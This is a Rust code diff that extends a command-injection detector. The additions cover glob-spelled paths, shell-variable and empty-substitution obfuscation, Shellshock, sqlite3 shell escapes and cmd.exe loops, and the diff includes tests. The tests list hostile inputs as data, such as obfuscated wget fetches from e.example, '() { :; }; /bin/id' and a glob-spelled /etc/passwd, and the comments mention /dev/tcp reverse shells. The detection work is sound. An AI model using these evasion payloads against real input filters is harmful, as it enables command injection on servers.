@@ -11,6 +11,7 @@
 //! followed by an option or a path). Windows `cmd.exe` (`FOR /F ... DO`, `IF EXIST`)
 //! and SSI `<!--#exec` are recognised by their keywords.
 
+mod glob;
 mod words;
 
 use crate::profile::{Profile, class};
@@ -62,13 +63,20 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
             || words::weak(first)
             || words::bin_path(first)
             || words::wrapper(first)
-            || first.contains(&b'['))
+            || first.contains(&b'[')
+            || glob::target(first).is_some())
         {
             return None;
         }
     }
     if let Some(m) = windows_or_ssi(v) {
         return Some(m);
+    }
+    if shellshock(v) {
+        return hit("shellshock");
+    }
+    if let Some(path) = glob_word(v) {
+        return hit(&format!("glob {path}"));
     }
     // Bash's network redirections (`exec 5<>/dev/tcp/10.0.0.1/80`, `>& /dev/tcp/...`):
     // a reverse shell whatever the program.
@@ -80,9 +88,6 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
         }
     }
     let toks = tokens(v);
-    if let Some(m) = wrapped(&toks) {
-        return Some(m);
-    }
     // The value may itself be the start of the command (`cat /etc/passwd`), or follow
     // an operator, or sit inside backticks / `$( )`.
     let mut at_start = true;
@@ -94,6 +99,20 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
                 at_start = false;
             }
             Tok::Word(w) => {
+                if at_start || after_op.is_some() {
+                    if let Some(name) = variable(&w.text) {
+                        // `$c` as the command: what the value assigned it (`c=cat&&$c
+                        // /etc/passwd`); unassigned, it expands to nothing and the next
+                        // word is the command (`;$u wget ...`).
+                        if let Some(program) = assigned_program(&toks[..i], name) {
+                            return hit(&program);
+                        }
+                        continue;
+                    }
+                    if let Some(m) = wrapped(&toks[i..]).or_else(|| builtin(&toks[i..])) {
+                        return Some(m);
+                    }
+                }
                 if let Some(op) = after_op.take() {
                     if command_here(w, op, toks.get(i + 1)) {
                         return Some(CmdiMatch {
@@ -102,9 +121,13 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
                     }
                 } else if at_start
                     && (((words::strong(&w.text) || words::bin_path(&w.text))
-                        && toks.get(i + 1).is_some_and(shellish_arg))
-                        || ((words::strong(&w.text) || words::bin_path(&w.text))
-                            && matches!(toks.get(i + 1), Some(Tok::Op(Op::Seq { .. }))))
+                        && toks.get(i + 1).is_some_and(|n| match n {
+                            Tok::Word(_) => shellish_arg(n),
+                            // `cat;`, `ls|nc ...`, `uname `id``; not `cat & dog` or
+                            // `PHP (Hypertext Preprocessor)`, whose operator starts no
+                            // command (one after it is judged there).
+                            Tok::Op(op) => matches!(op, Op::Seq { .. } | Op::Subst),
+                        }))
                         || (words::weak(&w.text) && ends_command(&toks[i + 1..])))
                 {
                     // `cat /etc/passwd`, `/bin/ls -al`, `id;`: a whole command line as the
@@ -120,8 +143,55 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
     None
 }
 
-/// A value that is a whole command line run through a wrapper: `nohup sh -c whoami`,
-/// `cpulimit -l 100 -f whoami`, `time sh -c whoami` (see [`words::wrapper`]).
+fn hit(command: &str) -> Option<CmdiMatch> {
+    Some(CmdiMatch {
+        command: command.to_string(),
+    })
+}
+
+/// A word that is one parameter expansion, `$name`: its name.
+fn variable(w: &[u8]) -> Option<&[u8]> {
+    let name = w.strip_prefix(b"$")?;
+    (!name.is_empty()
+        && name[0].is_ascii_alphabetic()
+        && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_'))
+    .then_some(name)
+}
+
+/// The program an earlier `name=program` word of the value assigned to `name`.
+fn assigned_program(before: &[Tok], name: &[u8]) -> Option<String> {
+    before.iter().rev().find_map(|t| {
+        let Tok::Word(w) = t else { return None };
+        let value = w.text.strip_prefix(name)?.strip_prefix(b"=")?;
+        (words::strong(value) || words::weak(value) || words::bin_path(value))
+            .then(|| String::from_utf8_lossy(value).into_owned())
+    })
+}
+
+/// Shell builtins that only a shell reads with these arguments: `alias name=...`,
+/// `alias -p`, `set -o history`; and the sqlite3 shell's `.shell` / `.system`.
+fn builtin(toks: &[Tok]) -> Option<CmdiMatch> {
+    let word = |k: usize| match toks.get(k) {
+        Some(Tok::Word(w)) => Some(w.text.as_slice()),
+        _ => None,
+    };
+    let first = word(0)?;
+    let next = word(1);
+    let option = |n: &[u8]| n.first() == Some(&b'-') && n.len() > 1;
+    let shell = match first {
+        b"alias" => next.is_some_and(|n| option(n) || n.iter().skip(1).any(|&c| c == b'=')),
+        // (`+o` reads as `o`: a `+` is taken for a form-encoded blank.)
+        b"set" => next.is_some_and(|n| n == b"-o"),
+        b".shell" | b".system" => true,
+        _ => false,
+    };
+    shell.then(|| CmdiMatch {
+        command: String::from_utf8_lossy(first).into_owned(),
+    })
+}
+
+/// A command line run through a wrapper: `nohup sh -c whoami`, `cpulimit -l 100 -f
+/// whoami`, `time sh -c whoami`, `strace who` (see [`words::wrapper`]).
 fn wrapped(toks: &[Tok]) -> Option<CmdiMatch> {
     let Some(Tok::Word(first)) = toks.first() else {
         return None;
@@ -130,10 +200,20 @@ fn wrapped(toks: &[Tok]) -> Option<CmdiMatch> {
     if !(english || words::wrapper(&first.text)) {
         return None;
     }
+    // A wrapper that is no word of prose runs a program that is one too (`nohup who`),
+    // as long as it ends the command line or takes an option or a path; `env` and
+    // `exec` also take plain words (`env test`).
+    let weak_too = !english && !matches!(first.text.as_slice(), b"env" | b"exec");
     // The program: within the next four words, past options, numbers and paths.
     for (j, t) in toks.iter().enumerate().skip(1).take(4) {
         let Tok::Word(w) = t else { return None };
-        let program = words::strong(&w.text) || words::bin_path(&w.text);
+        let ends = || {
+            toks.get(j + 1)
+                .is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n))
+        };
+        let program = words::strong(&w.text)
+            || words::bin_path(&w.text)
+            || (weak_too && words::weak(&w.text) && ends());
         if program && (!english || toks.get(j + 1).is_some_and(shellish_arg)) {
             return Some(CmdiMatch {
                 command: String::from_utf8_lossy(&w.text).into_owned(),
@@ -177,7 +257,7 @@ fn command_here(w: &Word, op: Op, next: Option<&Tok>) -> bool {
         return true;
     }
     match op {
-        Op::Subst => words::strong(text) || words::weak(text),
+        Op::Subst => words::strong(text) || (words::weak(text) && !words::tool(text)),
         Op::Seq { glued } => {
             words::strong(text)
                 || (words::weak(text)
@@ -234,6 +314,35 @@ fn expansion(v: &[u8], i: usize) -> Option<usize> {
     (name > 0 && v.get(i + 2 + name) == Some(&b'}') && inside).then_some(name + 3)
 }
 
+/// `` `` `` or `$()` at `i`: an empty command substitution, which a shell replaces by
+/// nothing (`pi``ng`, `pi$()ng`): its length.
+fn empty_substitution(v: &[u8], i: usize) -> Option<usize> {
+    let rest = &v[i..];
+    if rest.starts_with(b"``") {
+        Some(2)
+    } else if rest.starts_with(b"$()") {
+        Some(3)
+    } else {
+        None
+    }
+}
+
+/// Shellshock: an environment value (a header, for CGI) that starts a function
+/// definition, `() { :; }; cmd`.
+fn shellshock(v: &[u8]) -> bool {
+    let mut rest = v.iter().filter(|c| !c.is_ascii_whitespace());
+    rest.next() == Some(&b'(') && rest.next() == Some(&b')') && rest.next() == Some(&b'{')
+}
+
+/// The first word of the value that is a glob spelling a system path (`/???/??t`).
+fn glob_word(v: &[u8]) -> Option<&'static str> {
+    if memchr::memchr3(b'?', b'*', b'[', v).is_none() || memchr::memchr(b'/', v).is_none() {
+        return None;
+    }
+    v.split(|c| is_blank(*c) || b";|&`()<>{},'\"\n\r=".contains(c))
+        .find_map(glob::target)
+}
+
 /// An argument only a command line has: an option, a path, a URL, an address.
 fn shellish_arg(t: &Tok) -> bool {
     let Tok::Word(w) = t else { return true };
@@ -272,6 +381,10 @@ fn tokens(v: &[u8]) -> Vec<Tok> {
     let mut i = 0;
     let n = v.len();
     while i < n && out.len() < 256 {
+        if let Some(len) = empty_substitution(v, i) {
+            i += len;
+            continue;
+        }
         let c = v[i];
         let two = v.get(i + 1).copied();
         let expands = expansion(v, i).is_some();
@@ -307,7 +420,9 @@ fn tokens(v: &[u8]) -> Vec<Tok> {
         }
         let mut text = Vec::new();
         while i < n {
-            if let Some(len) = expansion(v, i) {
+            if matches!(v[i], b'$' | b'`')
+                && let Some(len) = expansion(v, i).or_else(|| empty_substitution(v, i))
+            {
                 i += len;
                 continue;
             }
@@ -334,8 +449,26 @@ fn tokens(v: &[u8]) -> Vec<Tok> {
             }
             match c {
                 b'\'' | b'"' | b'\\' => {}
-                // `$@`, `$*`, `$!`, `$_` expand to nothing in a fresh shell: `c$@at` is `cat`.
-                b'$' if matches!(v.get(i + 1), Some(b'@' | b'*' | b'!' | b'_')) => i += 1,
+                // `$@`, `$*`, `$!`, `$_` expand to nothing in a fresh shell: `c$@at` is `cat`;
+                // `$?`, `$-`, `$$`, `$#` are short strings written into a name for the
+                // same purpose (they break it for the filter, if not for the shell).
+                b'$' if matches!(
+                    v.get(i + 1),
+                    Some(b'@' | b'*' | b'!' | b'_' | b'?' | b'-' | b'$' | b'#')
+                ) =>
+                {
+                    i += 1
+                }
+                // `$name` inside a word: an unset variable, nothing (`uname$u`, `n$u\c`).
+                b'$' if !text.is_empty()
+                    && v.get(i + 1)
+                        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') =>
+                {
+                    i += v[i + 1..]
+                        .iter()
+                        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                        .count();
+                }
                 b'$' if v.get(i + 1) == Some(&b'(') => break,
                 b'[' => {
                     // `[n]` glob of one character: keep the character.
@@ -355,6 +488,29 @@ fn tokens(v: &[u8]) -> Vec<Tok> {
         }
     }
     out
+}
+
+/// A batch `IF` that compares (`IF "%1"=="x" cmd`, `if (1) equ (1) echo`): its operands
+/// quoted, bracketed or variables, or one of cmd's comparison words.
+fn batch_if(lower: &[u8]) -> bool {
+    let Some(rest) = lower.trim_ascii_start().strip_prefix(b"if ") else {
+        return false;
+    };
+    let rest = rest.strip_prefix(b"/i ").unwrap_or(rest);
+    let rest = rest.strip_prefix(b"not ").unwrap_or(rest);
+    let has = |p: &[u8]| memchr::memmem::find(rest, p).is_some();
+    let word_op = [
+        &b" equ "[..],
+        b" neq ",
+        b" lss ",
+        b" leq ",
+        b" gtr ",
+        b" geq ",
+    ]
+    .iter()
+    .any(|p| has(p));
+    let operand = matches!(rest.first(), Some(b'"' | b'[' | b'(' | b'%' | b'!'));
+    word_op || (operand && has(b"=="))
 }
 
 /// `cmd.exe` control words and server-side includes, which have their own syntax.
@@ -380,7 +536,9 @@ fn windows_or_ssi(v: &[u8]) -> Option<CmdiMatch> {
     if find(b"<!--#exec").is_some() || find(b"<!--#include").is_some() {
         return hit("ssi");
     }
-    // `FOR ... IN (...) DO`: the batch loop runs whatever follows DO.
+    // `FOR ... %x IN (...) DO`: the batch loop runs whatever follows DO (`)DO` needs no
+    // blank). Its tail alone is enough: a form parser cuts `& FOR /F "a=b" %%A IN ...`
+    // at the `&` and the `=`.
     if let Some(f) = find(b"for ")
         && (f == 0 || !lower[f - 1].is_ascii_alphanumeric())
         && let Some(inp) = memchr::memmem::find(&lower[f..], b" in ")
@@ -388,6 +546,21 @@ fn windows_or_ssi(v: &[u8]) -> Option<CmdiMatch> {
         && memchr::memchr(b'%', &lower[f..f + inp]).is_some()
     {
         return hit("for");
+    }
+    if memchr::memchr(b'%', &lower).is_some()
+        && let Some(inp) = find(b" in (").or_else(|| find(b" in("))
+        && let Some(p) = memchr::memrchr(b'%', &lower[..inp])
+        && lower[p..inp]
+            .iter()
+            .all(|c| c.is_ascii_alphanumeric() || b"%~@[_".contains(c))
+        && [&b") do "[..], b")do ", b") do@", b")do@"]
+            .iter()
+            .any(|d| memchr::memmem::find(&lower[inp..], d).is_some())
+    {
+        return hit("for");
+    }
+    if batch_if(&lower) {
+        return hit("if");
     }
     // `IF [NOT] EXIST|DEFINED|ERRORLEVEL x`: batch conditionals.
     for kw in [
@@ -463,6 +636,59 @@ mod tests {
             "nice cat pictures",
             "time flies like an arrow",
             "watch dir changes",
+        ]);
+    }
+
+    /// What a shell does to a word before it runs it: globs spelling a system path,
+    /// variables (set in the value, or unset: nothing), empty substitutions and special
+    /// parameters inside a name, versioned interpreters.
+    #[test]
+    fn shell_expansions() {
+        commands(&[
+            "/???/b??h -c id",
+            "/usr/[a-z]in/wget http://e.example/x",
+            "q=/etc/pa[!x]swd",
+            "x=cat;$x /etc/hosts",
+            ";$foo wget http://e.example/a",
+            "w``get http://e.example/x",
+            "1;who$()ami",
+            "1;who$?ami",
+            "unam$x\\e -a",
+            "python3.11 -c 'import os'",
+        ]);
+        prose(&[
+            "/images/*.png",
+            "/docs/[draft]/notes",
+            "total: $5 & more",
+            "a=b; $x is the price",
+        ]);
+    }
+
+    /// Wrappers after an operator, builtins only a shell reads, sqlite3's shell escapes,
+    /// shellshock, cmd.exe's loops and comparisons; the prose they resemble.
+    #[test]
+    fn builtins_wrappers_and_batch() {
+        commands(&[
+            "1;flock -u / id",
+            "x|nohup who",
+            "alias l=ls",
+            "set -o history",
+            "1;\n.system id",
+            "() { :; }; /bin/id",
+            "if /i \"%x%\"==\"y\" del a",
+            "if (1) neq (2) echo x",
+            "%%i in (*.txt) do type %%i",
+            "%f in (a,b)do @echo %f",
+        ]);
+        prose(&[
+            "Kubernetes & Docker",
+            "PHP & MySQL",
+            "run `systemctl restart nginx` after the upgrade",
+            "if you want == more",
+            "for all in (this) do that",
+            "alias of the user",
+            "set off at dawn",
+            "env test",
         ]);
     }
 
